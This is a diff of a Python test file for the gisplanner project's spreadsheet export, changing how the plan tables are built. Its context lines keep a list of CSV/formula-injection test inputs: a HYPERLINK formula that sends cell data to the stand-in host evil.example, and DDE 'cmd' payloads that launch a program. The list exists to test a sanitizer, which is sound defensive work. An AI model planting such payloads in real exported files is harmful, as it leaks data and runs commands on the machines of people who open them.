@@ -8,7 +8,7 @@ import pytest
 
 from gisplanner.export import tables
 from gisplanner.io.spreadsheets import defuse, is_formula_like, safe_frame, text_cells, write_csv
-from tests.export.plan_data import build_plan
+from tests.export.plan_data import build_plan, items
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -52,7 +52,7 @@ def test_openpyxl_stores_no_formula(tmp_path):
 @pytest.fixture
 def injected_tables():
     plan = build_plan()
-    plan_tables = tables.plan_tables(plan)
+    plan_tables = tables.plan_tables(plan, items())
     for frame in (plan_tables.items, plan_tables.gaps, plan_tables.checks):
         for column in frame.columns:
             if frame[column].dtype == object:
